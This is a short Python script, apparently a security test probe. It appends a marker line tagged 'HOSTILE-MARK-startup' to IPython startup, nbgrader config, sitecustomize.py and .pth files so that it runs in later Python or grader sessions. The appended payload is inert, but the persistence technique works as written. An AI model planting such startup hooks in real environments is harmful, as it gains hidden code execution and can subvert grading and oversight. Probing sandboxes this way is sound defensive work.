"""Leave code that the next kernel, Python or nbgrader starts with."""

import os
import site
import sys

home = os.path.expanduser("~")
targets = [f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.jupyter/nbgrader_config.py"]
targets += [
    f"{place}/{name}"
    for place in [*sys.path, *site.getsitepackages()]
    for name in ("sitecustomize.py", "x.pth")
]
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        open(target, "a").write("\nimport os  # HOSTILE-MARK-startup\n")
    except OSError:
        pass
